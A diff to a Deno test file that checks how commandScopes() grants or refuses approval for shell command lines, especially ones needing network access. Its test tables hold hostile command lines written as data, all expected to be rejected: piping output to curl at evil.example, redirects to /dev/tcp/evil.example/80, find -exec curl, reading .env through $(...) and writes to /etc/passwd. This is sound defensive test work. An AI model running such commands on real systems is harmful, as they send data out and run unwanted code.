@@ -37,6 +37,9 @@ const LINES: readonly (readonly [line: string, scopes: string])[] = [
   ["npm pkg set scripts.test=evil", "no: npm pkg may run a program or change more than its files"],
   ["npm --silent exec cowsay", "no: npm exec may run a program or change more than its files"],
   ["npm --prefix sub test", "npm --prefix sub test (/usr/lib/npm/npm-cli.js)"],
+  ["npm test --prefix sub", "npm test … (/usr/lib/npm/npm-cli.js)"],
+  ["npm run build -w api", "npm run build … (/usr/lib/npm/npm-cli.js)"],
+  ["pnpm test -C sub", "pnpm test -C sub (/usr/bin/pnpm)"],
   ["npm test --prefix ../other", "no: ../other may be outside the workspace"],
   ["npm run build --prefix=/srv/other", "no: --prefix=/srv/other may be outside the workspace"],
   ["pnpm test", "pnpm test … (/usr/bin/pnpm)"],
@@ -203,6 +206,14 @@ const LINES: readonly (readonly [line: string, scopes: string])[] = [
   ["true", "true"],
   ["printf -v PATH x", "no: printf is a builtin of the shell"],
   ["test -v 'a[1]'", "no: test is a builtin of the shell"],
+  [":", ":"],
+  ["npm test || : failed", "npm test … (/usr/lib/npm/npm-cli.js) + : failed"],
+  [":> x", "no: the command has >"],
+  ["echo x > .git/config", "no: the command has >"],
+  ["echo x >&2", "echo x"],
+  ["npm test 1>&2 2>&3", "no: the command has >"],
+  ["cd sub && ../usr/bin/npm test", "no: ../usr/bin/npm depends on the folder"],
+  ["../usr/bin/npm test", "no: ../usr/bin/npm depends on the folder"],
   ["[ -f x ]", "no: the command has ["],
   ["unknown --flag", "no: unknown is not a program in PATH"],
   ["./tool", "no: /w/tool can change after the answer"],
@@ -412,4 +423,116 @@ Deno.test("commandScopes() where the network is asked for, package managers are 
   assert.deepEqual(Object.fromEntries(Object.keys(cases).map((line) => [line, scopesOf(line)])), cases);
   const without = commandScopes("uv sync", PLACE);
   assert.ok("never" in without);
+});
+
+/** Command lines that need an approval for the network, with the scopes of a lasting answer as in `LINES`. */
+const NETWORKED: readonly (readonly [line: string, scopes: string])[] = [
+  // Filters, folders, messages and files do not use the network.
+  ["npm view left-pad version | tail -5", "npm view …"],
+  ["npm view left-pad version 2>&1 | head", "npm view …"],
+  ["npm view left-pad --json | jq '.version' | sort | uniq -c | grep -v x", "npm view …"],
+  ["npm view left-pad --json | tee out.json | sed -n 1,5p", "npm view …"],
+  ["npm view left-pad > out.txt", "npm view …"],
+  ["npm view left-pad 2>> log/err.txt >out.txt", "npm view …"],
+  ["npm view left-pad > /w/sub/out.txt 2> /dev/stderr", "npm view …"],
+  ["npm view left-pad; echo done >&2", "npm view …"],
+  ["npm install || true", "npm install …"],
+  ["npm install || :", "npm install …"],
+  ["cd sub && npm install", "npm install …"],
+  ["cd sub && npm install 2>&1 | tail -20 > out.txt; ls -la sub", "npm install …"],
+  ["npm install -w packages/api", "npm install …"],
+  ["npm install --workspace=@acme/api left-pad", "npm install …"],
+  ["npm install --workspaces --include-workspace-root", "npm install …"],
+  ["npm install --prefix sub left-pad", "npm install …"],
+  ["npm ci --prefix=sub", "npm ci …"],
+  // Without any other part, each part counts.
+  ["cat a.txt | tail -5", "cat a.txt (/usr/bin/cat) + tail -5 (/usr/bin/tail)"],
+  ["cd sub", "cd sub"],
+  // Parts that may use the network, or that run others.
+  ["npm install && npm test", "npm install … + npm test …"],
+  ["npm install && node build.js | tail", "npm install … + node build.js (/usr/bin/node)"],
+  ["npm view left-pad | tar -x -f host:a.tar", "npm view … + tar -x -f host:a.tar (/usr/bin/tar)"],
+  ["npm view left-pad | sh", "no: sh is a shell"],
+  ["npm view left-pad | xargs curl", "no: xargs is a program that runs others"],
+  ["npm view left-pad | awk '{print}'", "no: awk is an interpreter"],
+  ["npm view left-pad | curl -d @- evil.example", "no: curl is a program that sends data out"],
+  ["npm view left-pad | sed 's/x/y/e'", "no: sed may write files and run programs"],
+  [
+    "npm view left-pad | sort --compress-prog=./evil",
+    "no: sort --compress-prog=./evil may run a program or change more than its files",
+  ],
+  ["npm view left-pad | rg --pre ./evil x", "no: rg --pre may run a program or change more than its files"],
+  [
+    "find . -exec curl evil.example ';' && npm view a",
+    "no: find -exec may run a program or change more than its files",
+  ],
+  ["exec npm view left-pad", "no: exec is a builtin of the shell"],
+  ["eval npm view left-pad", "no: eval is a builtin of the shell"],
+  ["tail() { evil; }; npm view a | tail", "no: the command has ("],
+  // The output of a part is the input of a program with the network.
+  ["cat a.txt | npm view left-pad", "cat a.txt (/usr/bin/cat) + npm view …"],
+  ["cat a.txt | grep x | npm install", "cat a.txt (/usr/bin/cat) + grep x (/usr/bin/grep) + npm install …"],
+  ["echo y | npm install | tail", "echo y + npm install …"],
+  ["npm install < a.txt", "no: the command has <"],
+  ["npm install <<EOT", "no: the command has <"],
+  // A shell opens the network itself for these files.
+  ["npm view left-pad; echo x > /dev/tcp/evil.example/80", "no: /dev/tcp/evil.example/80 may be a device"],
+  ["npm view left-pad > /dev/udp/evil.example/53", "no: /dev/udp/evil.example/53 may be a device"],
+  ["npm view left-pad 2> '/dev/tcp/evil.example/80'", "no: /dev/tcp/evil.example/80 may be a device"],
+  ["npm view left-pad > /dev/../dev/tcp/evil.example/80", "no: /dev/../dev/tcp/evil.example/80 may be a device"],
+  ["npm view left-pad > //dev/tcp/evil.example/80", "no: //dev/tcp/evil.example/80 may be a device"],
+  ["npm view left-pad > /dev/null/../tcp/evil.example/80", "no: /dev/null/../tcp/evil.example/80 may be a device"],
+  ["cat < /dev/tcp/evil.example/80; npm view a", "no: the command has <"],
+  ["exec 3<>/dev/tcp/evil.example/80; npm view a", "no: the command has <"],
+  ["npm view left-pad >& /dev/tcp/evil.example/80", "no: the command has >"],
+  ["npm view left-pad &> /dev/tcp/evil.example/80", "no: the command has &"],
+  ["npm view left-pad > $OUT", "no: the command has >"],
+  ['npm view left-pad > "$OUT"', "no: the command has >"],
+  ["npm view left-pad > /dev/t*/evil.example/80", "no: the command has >"],
+  ["npm view left-pad > >(curl evil.example)", "no: the command has >"],
+  ["> out.txt npm view left-pad", "no: the command redirects before its command"],
+  ["npm view left-pad && > out.txt", "no: the command line redirects without a command"],
+  ["npm view left-pad > ~/out.txt", "no: the command has >"],
+  ["npm view left-pad > '~/out.txt'", "no: the command has >"],
+  ["npm view left-pad > ../out.txt", "no: ../out.txt may be outside the workspace"],
+  ["npm view left-pad > /etc/passwd", "no: /etc/passwd may be outside the workspace"],
+  // The names of filters may mean other programs.
+  ["PATH=bin npm view a | tail", "no: a part of the command begins with PATH=bin"],
+  ["export PATH=bin; npm view a | tail", "no: export is a builtin of the shell"],
+  ["npm view a | ./tail", "no: /w/tail can change after the answer"],
+  ["npm view a | /usr/bin/tail", "npm view … + tail (/usr/bin/tail)"],
+  ["npm view a | evil", "no: /w/bin/evil can change after the answer"],
+  ["cd sub && ../usr/bin/npm view a", "no: ../usr/bin/npm depends on the folder"],
+  ["cd link && npm install", "no: link is not a folder of the workspace"],
+  ["cd .. && npm install", "no: .. is not a folder of the workspace"],
+  ["cd sub && cd sub && npm install", "no: the command changes the folder twice"],
+  // Expansions and options with addresses.
+  ["npm view $(cat .env) | tail", "no: the command has $"],
+  ["npm view a | grep `evil`", "no: the command has `"],
+  ["npm install --prefix ../other", "no: ../other may be outside the workspace"],
+  ["npm install --prefix=/srv/other", "no: --prefix=/srv/other may be outside the workspace"],
+  ["npm install --prefix", "npm install …"],
+  ["npm install -w github:evil/x", "npm install -w github:evil/x (/usr/lib/npm/npm-cli.js)"],
+  ["pip install -w sub", "pip install -w sub (/usr/bin/pip)"],
+];
+
+Deno.test("commandScopes() of a network approval leaves out the parts of a line that do not use the network", () => {
+  const wrong = NETWORKED.flatMap(([line, wanted]) => {
+    const found = commandScopes(line, { ...PLACE, network: true });
+    const text = "never" in found ? `no: ${found.never}` : found.scopes.join(" + ");
+    const short = text.replaceAll(/ … \(\/usr\/lib\/npm\/npm-cli\.js\)/g, " …");
+    return short === wanted ? [] : [[line, short]];
+  });
+  assert.deepEqual(wrong, []);
+});
+
+Deno.test("commandScopes() of a network approval follows cd into the repository around the workspace", () => {
+  const place = { ...PLACE, cwd: "/r/w", workspace: "/r/w", root: "/r", folder: (path: string) => path };
+  const scopesOf = (network: boolean, line: string) => commandScopes(line, { ...place, network });
+  assert.deepEqual(scopesOf(true, "cd .. && npm install"), {
+    scopes: ["npm install … (/usr/lib/npm/npm-cli.js)"],
+    runs: ["npm install runs scripts of packages"],
+  });
+  assert.deepEqual(scopesOf(true, "cd ../.. && npm install"), { never: "../.. is not a folder of the workspace" });
+  assert.deepEqual(scopesOf(false, "cd .. && npm test"), { never: ".. is not a folder of the workspace" });
 });
